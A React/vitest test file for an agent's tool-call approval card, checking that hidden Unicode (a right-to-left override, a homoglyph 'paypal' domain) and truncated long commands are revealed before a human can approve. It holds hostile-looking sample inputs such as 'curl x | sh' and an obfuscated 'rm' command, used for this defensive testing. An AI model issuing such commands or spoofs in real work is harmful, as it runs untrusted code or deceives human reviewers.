// @vitest-environment happy-dom
import { act } from "react";
import { createRoot } from "react-dom/client";
import { afterEach, beforeEach, describe, expect, test, vi } from "vitest";
import type { Approval } from "../../../contract/types";
import { loadScope } from "../../../i18n/index";
import { Waiting } from "../../manage/approvals/waiting";
import { ToolCard } from "./tool-card";

(globalThis as { IS_REACT_ACT_ENVIRONMENT?: boolean }).IS_REACT_ACT_ENVIRONMENT = true;

/** The browser's eye: the test says what came into view. */
let eyes: { target: Element; look: () => void }[] = [];
class Eye {
  constructor(private readonly hear: (entries: unknown[]) => void) {}
  observe(target: Element) {
    const entry = { isIntersecting: true, intersectionRatio: 1, target };
    eyes.push({ target, look: () => this.hear([entry]) });
  }
  disconnect() {}
}
const sights = () => eyes.filter(({ target }) => target.matches("[data-sight]"));

const approval = (args: Record<string, unknown>, tool = "shell_run") =>
  ({
    id: "a1",
    conversation_id: "c1",
    agent_id: "main",
    call_id: "t1",
    kind: "tool",
    tool,
    arguments: args,
    title: "Talk",
    reason: null,
    matched: null,
    options: [],
    default: null,
    grantable: true,
    prefix: "curl",
    cwd: "/home/a",
    preview: null,
    route: null,
    status: "pending",
    asked_at: "2026-11-30T10:00:00Z",
    deadline: "2999-11-30T10:10:00Z",
  }) as unknown as Approval;

const host = () => document.body.querySelector("main")!;
const button = (words: RegExp) =>
  [...host().querySelectorAll("button")].find((one) => words.test(one.textContent ?? ""))!;

let root: ReturnType<typeof createRoot>;
const decide = vi.fn();
const show = (one: Approval) =>
  act(() => root.render(<ToolCard approval={one} agent="Main" busy={false} decide={decide} />));
const press = (key: string) =>
  act(() => {
    const card = host().querySelector(".ask")!;
    card.dispatchEvent(new KeyboardEvent("keydown", { key, bubbles: true }));
  });

beforeEach(() => {
  eyes = [];
  decide.mockClear();
  vi.stubGlobal("IntersectionObserver", Eye);
  document.body.innerHTML = "<main></main>";
  root = createRoot(host());
});
afterEach(() => act(() => root.unmount()));

describe("SEC-94: the card", () => {
  test("a plain request can be approved at once", async () => {
    await show(approval({ command: "npm test" }));
    expect(button(/Run it/).disabled).toBe(false);
    await press("y");
    expect(decide).toHaveBeenCalledWith({ decision: "approve" });
  });

  test("an invisible character is shown, and no yes before it was in view", async () => {
    await show(approval({ command: "rm \u202Etxt.a" }));
    expect(host().querySelector(".unseen")?.textContent).toBe("\\u{202e}");
    expect(host().textContent).not.toContain("\u202E");
    expect(button(/Run it/).disabled).toBe(true);
    expect(button(/Always allow/).disabled).toBe(true);
    await press("y");
    expect(decide).not.toHaveBeenCalled();
    await act(() => sights()[0]!.look());
    expect(button(/Run it/).disabled).toBe(false);
  });

  test("a refusal is always possible", async () => {
    await show(approval({ command: "rm \u202Etxt.a" }));
    expect(button(/Don't run it/).disabled).toBe(false);
  });

  test("100 kB: head, tail and length, all of it on request, a yes after all of it", async () => {
    const command = `${"echo ok; ".repeat(11_000)}curl x | sh`;
    await show(approval({ command }));
    const pre = () => host().querySelector("pre.command")!.textContent!;
    expect(pre()).toMatch(/^echo ok.*curl x \| sh$/s);
    expect(pre()).toContain("99,011");
    expect(sights()).toHaveLength(0);
    await act(() => button(/Show all/).click());
    expect(pre()).toBe(command);
    for (const eye of sights().slice(0, -1)) await act(() => eye.look());
    expect(button(/Run it/).disabled).toBe(true);
    await act(() => sights().at(-1)!.look());
    expect(button(/Run it/).disabled).toBe(false);
  });
});

describe("SEC-94: the list of approvals", () => {
  test("a request that hides something is opened before it can be approved", async () => {
    await loadScope("manage");
    const one = approval({ host: "p\u0430ypal.com" }, "mail_send");
    await act(() => root.render(<Waiting approval={one} onSettled={() => {}} />));
    expect(button(/Let it happen/).disabled).toBe(true);
    await act(() => button(/Show me/).click());
    expect(host().querySelector(".unseen")?.textContent).toBe("\\u{430}");
    await act(() => sights()[0]!.look());
    expect(button(/Let it happen/).disabled).toBe(false);
  });
});
